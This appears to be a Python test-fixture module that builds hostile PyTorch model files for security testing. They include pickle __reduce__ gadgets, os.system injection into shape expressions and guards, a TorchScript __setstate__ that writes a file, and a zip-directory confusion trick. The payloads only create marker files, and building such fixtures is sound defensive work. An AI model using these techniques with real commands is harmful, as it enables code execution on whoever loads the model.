"""Model files that make a file when torch loads or runs them: what an attacker would send."""

from __future__ import annotations

import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import torch
from torch import Tensor, nn

SHAPE = (1, 6, 6)
Change = Callable[[dict[str, Any]], None]


class Touch:
    """Makes a file when it is unpickled."""

    def __init__(self, place: Path) -> None:
        self.place = place

    def __reduce__(self) -> Any:
        return (Path.touch, (self.place,))


def command(place: Path) -> str:
    """A Python expression that runs a command of the shell and is true."""
    return f"(__import__('os').system('touch {place}') == 0)"


def program(path: Path) -> Path:
    """A harmless exported program, for batches of any size."""
    network = nn.Sequential(nn.Flatten(), nn.Linear(36, 4)).eval()
    batch = torch.export.Dim("batch", min=2, max=64)
    made = torch.export.export(network, (torch.zeros(4, *SHAPE),), dynamic_shapes=({0: batch},))
    torch.export.save(made, path)
    return path


def rewritten(source: Path, target: Path, entries: dict[str, bytes], change: Change) -> Path:
    """A program with entries replaced or added, and its JSON changed."""
    with zipfile.ZipFile(source) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    top = next(iter(found)).partition("/")[0]
    found |= {f"{top}/{name}": content for name, content in entries.items()}
    model = f"{top}/models/model.json"
    written = json.loads(found[model])
    change(written)
    found[model] = json.dumps(written).encode()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    return target


def unchanged(_: dict[str, Any]) -> None:
    """Leaves the JSON as it is."""


def symbolic_shape(path: Path, touched: Path) -> Path:
    """Holds a command in an expression that torch gives to sympy."""

    def change(written: dict[str, Any]) -> None:
        values = written["graph_module"]["graph"]["tensor_values"]
        size = next(each for each in values["input"]["sizes"] if "as_expr" in each)["as_expr"]
        size["expr_str"] = f"{command(touched)} and {size['expr_str']}"

    return rewritten(program(path.with_name("plain.pt2")), path, {}, change)


def guard(path: Path, touched: Path) -> Path:
    """Holds a command in a guard, which torch compiles as Python and runs with the program."""

    def change(written: dict[str, Any]) -> None:
        written["guards_code"] = [command(touched)]

    return rewritten(program(path.with_name("plain.pt2")), path, {}, change)


def pickled_constant(path: Path, touched: Path) -> Path:
    """Holds a pickle that makes a file among its constants."""
    entry = {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True}
    config = json.dumps({"config": {"thing": {**entry, "tensor_meta": None}}}).encode()
    entries = {
        "data/constants/model_constants_config.json": config,
        "data/constants/custom_obj_0": pickle.dumps(Touch(touched)),
    }
    return rewritten(program(path.with_name("plain.pt2")), path, entries, unchanged)


def sample_inputs(path: Path, touched: Path) -> Path:
    """Holds a pickle that makes a file in place of its sample inputs."""
    torch.save(Touch(touched), path.with_name("inputs.pt"))
    entries = {"data/sample_inputs/model.pt": path.with_name("inputs.pt").read_bytes()}
    return rewritten(program(path.with_name("plain.pt2")), path, entries, unchanged)


def library(path: Path, touched: Path) -> Path:
    """Holds a compiled library."""
    entries = {"data/aotinductor/model/run.so": b"\x7fELF"}
    return rewritten(program(path.with_name("plain.pt2")), path, entries, unchanged)


PROGRAMS = (symbolic_shape, guard, pickled_constant, sample_inputs, library)


class Saves(nn.Module):
    """Writes a file when it is loaded: what TorchScript runs then is ``__setstate__``."""

    def __init__(self, name: str) -> None:
        super().__init__()
        self.name = name
        self.linear = nn.Linear(36, 4)

    def forward(self, inputs: Tensor) -> Tensor:
        return self.linear(inputs.flatten(1))

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.name, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.name, self.training = state
        torch.save(torch.zeros(1), self.name)


def script(path: Path, touched: Path, *, rename: Callable[[str], str] = str) -> Path:
    """A TorchScript file that writes a file when it is loaded, its entries renamed."""
    plain = path.with_name("plain.ts")
    torch.jit.save(torch.jit.script(Saves(str(touched))), plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            target.writestr(rename(name), source.read(name))
    return path


def two_directories(path: Path, touched: Path) -> Path:
    """An archive in which torch finds a script that writes a file, and Python's reader another.

    Behind the script's directory are a 64-bit record of it, a harmless archive, and in the comment
    of its last entry a reference to the record, which Python's reader does not follow.
    """
    hostile = script(path.with_name("hostile.ts"), touched).read_bytes()
    end = hostile.rfind(b"PK\5\6")
    *_, count, size, offset, _ = struct.unpack("<4s4H2LH", hostile[end : end + 22])
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
    harmless = torch.jit.script(nn.Sequential(nn.Flatten(), nn.Linear(36, 4)))
    torch.jit.save(harmless, path.with_name("harmless.ts"))
    content = BytesIO()
    with zipfile.ZipFile(path.with_name("harmless.ts")) as source:
        names = source.namelist()
        with zipfile.ZipFile(content, "w") as target:
            for name in names:
                entry = zipfile.ZipInfo(name)
                if name == names[-1]:
                    entry.comment = struct.pack("<4sLQL", b"PK\6\7", 0, end, 1)
                target.writestr(entry, source.read(name))
    path.write_bytes(hostile[:end] + record + content.getvalue())
    return path
